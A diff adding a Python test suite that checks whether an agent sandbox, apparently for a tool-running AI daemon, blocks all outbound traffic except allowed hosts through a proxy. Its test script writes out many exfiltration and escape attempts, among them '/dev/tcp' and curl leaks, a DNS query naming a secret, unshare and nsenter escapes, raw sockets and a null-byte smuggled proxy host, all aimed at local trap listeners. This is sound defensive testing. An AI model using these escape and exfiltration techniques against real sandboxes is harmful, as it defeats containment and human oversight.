@@ -1,0 +1,202 @@
+# SPDX-License-Identifier: MIT
+"""S23: what a command in the sandbox can send. Without hosts nothing at all, DNS included; with hosts only to those, through the proxy.
+Judged by traps that count what arrives, and by a control that runs the same attempts outside.
+"""
+import json
+import os
+import socket
+import subprocess
+import threading
+
+from harness import case, contains, equal, expect, wait_until
+from http_test import Site
+
+POLICY = "tools:\n  allowed: [\"shell.*\"]\n"
+
+# Runs inside and, as the control, outside. Prints one JSON object: what seemed to work, and the interfaces it saw.
+ATTEMPTS = r"""
+import ctypes, json, os, socket, struct, subprocess, sys
+targets = json.loads(sys.argv[1])
+worked = []
+def attempt(name, action):
+    try:
+        action()
+        worked.append(name)
+    except Exception as error:
+        pass
+def tcp(host, port, family=socket.AF_INET):
+    with socket.socket(family, socket.SOCK_STREAM) as s:
+        s.settimeout(0.5); s.connect((host, port)); s.sendall(b"GET /leak HTTP/1.0\r\n\r\n"); s.recv(1)
+def udp(host, port, family=socket.AF_INET):
+    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04leak\x04test\x00\x00\x01\x00\x01"
+    with socket.socket(family, socket.SOCK_DGRAM) as s:
+        s.settimeout(0.5); s.sendto(question, (host, port)); s.recv(1)
+def unix(name):
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+        s.settimeout(0.5); s.connect(name); s.sendall(b"GET /api/v1/status HTTP/1.1\r\nHost: a\r\n\r\n")
+        if not s.recv(1): raise OSError("nothing came back")
+def unix_datagram(name):
+    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s: s.sendto(b"leak", name)
+def raw(kind):
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, kind) as s: s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (targets["hosts"][0], 0))
+def packet():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s: s.bind(("lo", 0)); s.send(b"\0" * 64)
+def vsock():
+    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s: s.settimeout(0.5); s.connect((2, 1))
+for host in targets["hosts"]:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    attempt(f"tcp {host}", lambda: tcp(host, targets["port"], family))
+    attempt(f"udp {host}", lambda: udp(host, targets["udp"], family))
+for form in ("127.1", "2130706433", "0x7f000001", "0"):
+    attempt(f"tcp {form}", lambda: tcp(form, targets["port"]))
+attempt("abstract", lambda: unix("\0" + targets["abstract"]))
+attempt("abstract datagram", lambda: unix_datagram("\0" + targets["abstract_datagram"]))
+for path in targets["sockets"]:
+    attempt(f"unix {path}", lambda: unix(path))
+attempt("raw icmp", lambda: raw(1)); attempt("raw tcp", lambda: raw(6)); attempt("packet", packet); attempt("vsock", vsock)
+attempt("resolve", lambda: socket.getaddrinfo("secret.leak.test", 80))
+for command in (["getent", "hosts", "secret.leak.test"], ["curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
+                ["bash", "-c", "exec 3<>/dev/tcp/%s/%d; echo leak >&3" % (targets["hosts"][0], targets["port"])],
+                ["bash", "-c", "echo leak > /dev/udp/%s/%d" % (targets["hosts"][0], targets["udp"])],
+                ["unshare", "-rn", "curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
+                ["nsenter", "-t", "1", "-n", "curl", "-sm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])]):
+    attempt(" ".join(command), lambda: subprocess.run(command, timeout=3, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
+interfaces = []
+attempt("interfaces", lambda: interfaces.extend(name for _, name in socket.if_nameindex()))
+print("RESULT" + json.dumps({"worked": worked, "interfaces": interfaces}))
+"""
+
+
+class Traps:
+    """Every way to be reached on this machine, each with a counter."""
+
+    def __init__(self):
+        self.hits, self.open = [], []
+        self.tcp = self._listen(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0), "tcp")
+        self.port = self.tcp.getsockname()[1]
+        self.udp = self._listen(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0), "udp")
+        self.abstract, self.abstract_datagram = f"pryx-trap-{os.getpid()}-{self.port}", f"pryx-trapd-{os.getpid()}-{self.port}"
+        self._listen(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + self.abstract, "abstract")
+        self._listen(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + self.abstract_datagram, "abstract datagram")
+        self.hosts = ["127.0.0.1", "127.0.0.2", "::1"]
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+            try:
+                probe.connect(("192.0.2.1", 9))  # sends nothing; tells which address of ours faces the world
+                self.hosts.append(probe.getsockname()[0])
+            except OSError:
+                pass
+
+    def _listen(self, family, kind, address, name):
+        trap = socket.socket(family, kind)
+        trap.bind(address)
+        if kind == socket.SOCK_STREAM:
+            trap.listen(64)
+        threading.Thread(target=self._count, args=(trap, kind, name), daemon=True).start()
+        self.open.append(trap)
+        return trap
+
+    def _count(self, trap, kind, name):
+        while True:
+            try:
+                if kind == socket.SOCK_STREAM:
+                    peer, _ = trap.accept()
+                    self.hits.append(name)
+                    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\ngot you")
+                    peer.close()
+                else:
+                    _, peer = trap.recvfrom(2048)
+                    self.hits.append(name)
+                    if peer:
+                        trap.sendto(b"x", peer)
+            except OSError:
+                return
+
+    def targets(self, sockets=()):
+        return json.dumps({"hosts": self.hosts, "port": self.port, "udp": self.udp.getsockname()[1], "abstract": self.abstract,
+                           "abstract_datagram": self.abstract_datagram, "sockets": list(sockets)})
+
+    def close(self):
+        for trap in self.open:
+            trap.close()
+
+
+def shell(lab, files):
+    daemon = lab.daemon()
+    model, api = lab.model(daemon), daemon.api()
+    lab.write_config(daemon, "policy.yaml", POLICY)
+    wait_until(lambda: api.get("/policy")["in_force"] == "file", 10, "the policy is in force")
+    work = lab.workspace(files)
+
+    def run(name, limit=60, **arguments):
+        model.script[name] = [[("call", "shell.exec", arguments)], ["done"]]
+        session = api.session(workspace=str(work))
+        turn = api.wait_turn(api.send(session, name), limit)
+        step = [s for s in turn["steps"] if s["kind"] == "tool"][-1]
+        text = [m for m in api.transcript(session) if m["role"] == "tool"][-1]["parts"][0]["text"]
+        equal(step["state"], "done", f"the step of {name} ({text[:800]})")
+        return text
+    return daemon, api, run
+
+
+# A datagram may be sent to nobody: only the traps can tell.
+SILENT = ("interfaces", "bash -c echo leak > /dev/udp/")
+
+
+def result(text):
+    expect("RESULT" in text, f"the attempts did not run to their end: {text[-1500:]}")
+    return json.JSONDecoder().raw_decode(text[text.index("RESULT") + 6:])[0]
+
+
+@case(limit=180)
+def a_closed_sandbox_sends_nothing(lab):
+    traps = Traps()
+    daemon, api, run = shell(lab, {"attempts.py": ATTEMPTS})
+    targets = traps.targets([str(daemon.home / "run" / "pryx.sock"), "/run/dbus/system_bus_socket", "/run/pryx-egress.sock"])
+    found = result(run("try everything", argv=["/usr/bin/python3", "attempts.py", targets]))
+    equal(traps.hits, [], "what arrived")
+    equal([w for w in found["worked"] if not w.startswith(SILENT)], [], "attempts that seemed to work")
+    expect(set(found["interfaces"]) <= {"lo"}, f"interfaces inside: {found['interfaces']}")
+    equal(api.get("/egress")["items"], [], "the egress list")
+    # The control: the same attempts outside reach the traps of every kind.
+    outside = subprocess.run(["/usr/bin/python3", "-c", ATTEMPTS, targets], capture_output=True, text=True, timeout=120)
+    result(outside.stdout)
+    equal(sorted(set(traps.hits)), ["abstract", "abstract datagram", "tcp", "udp"], "traps that the control reached")
+    traps.close()
+
+
+THROUGH_PROXY = r"""
+import json, socket, sys
+def ask(line):
+    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
+        s.settimeout(5); s.sendall(line.encode("latin-1") + b"\r\n\r\n")
+        out = b""
+        while True:
+            piece = s.recv(65536)
+            if not piece: return out.decode("latin-1")
+            out += piece
+print("RESULT" + json.dumps([ask(line) for line in json.loads(sys.argv[1])]))
+"""
+
+
+@case(limit=180)
+def an_open_sandbox_reaches_its_hosts_and_nothing_else(lab):
+    site, traps = Site(), Traps()
+    daemon, api, run = shell(lab, {"attempts.py": ATTEMPTS, "ask.py": THROUGH_PROXY})
+    own = daemon.ready["url"].rsplit(":", 1)[1] if daemon.ready else "1"
+    lines = [f"GET {site.url('/page')} HTTP/1.1", f"GET http://127.0.0.1:{traps.port}/ HTTP/1.1", f"CONNECT 127.0.0.1:{traps.port} HTTP/1.1",
+             f"CONNECT localhost:{traps.port} HTTP/1.1", f"CONNECT 127.0.0.2:{site.port} HTTP/1.1", f"CONNECT 127.1:{site.port} HTTP/1.1",
+             f"CONNECT 127.0.0.1:{site.port}\0.evil.test:{traps.port} HTTP/1.1", "CONNECT secret.leak.test:443 HTTP/1.1", f"CONNECT 127.0.0.1:{own} HTTP/1.1"]
+    answers = result(run("ask", argv=["/usr/bin/python3", "ask.py", json.dumps(lines)], hosts=[f"127.0.0.1:{site.port}"]))
+    contains(answers[0], "HTTP/1.1 200", "the allowed host")
+    contains(answers[0], "<h1>Tides</h1>", "the allowed host's page")
+    for line, answer in zip(lines[1:], answers[1:]):
+        expect(answer.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), f"{line!r} was answered with {answer[:200]!r}")
+    found = result(run("try the rest", argv=["/usr/bin/python3", "attempts.py", traps.targets([str(daemon.home / "run" / "pryx.sock")])], hosts=[f"127.0.0.1:{site.port}"]))
+    equal(traps.hits, [], "what arrived elsewhere")
+    equal([w for w in found["worked"] if not w.startswith(SILENT)], [], "attempts that seemed to work")
+    equal([r[1] for r in site.requests], ["/page"], "what arrived at the allowed host")
+    rows = api.get("/egress")["items"]
+    equal([r["tool"] for r in rows if r["state"] == "done"], ["shell.exec"], "requests on record that were sent")
+    expect(all(r["state"] == "denied" for r in rows if r["port"] != site.port), f"the other rows: {rows}")
+    traps.close()
+    site.stop()
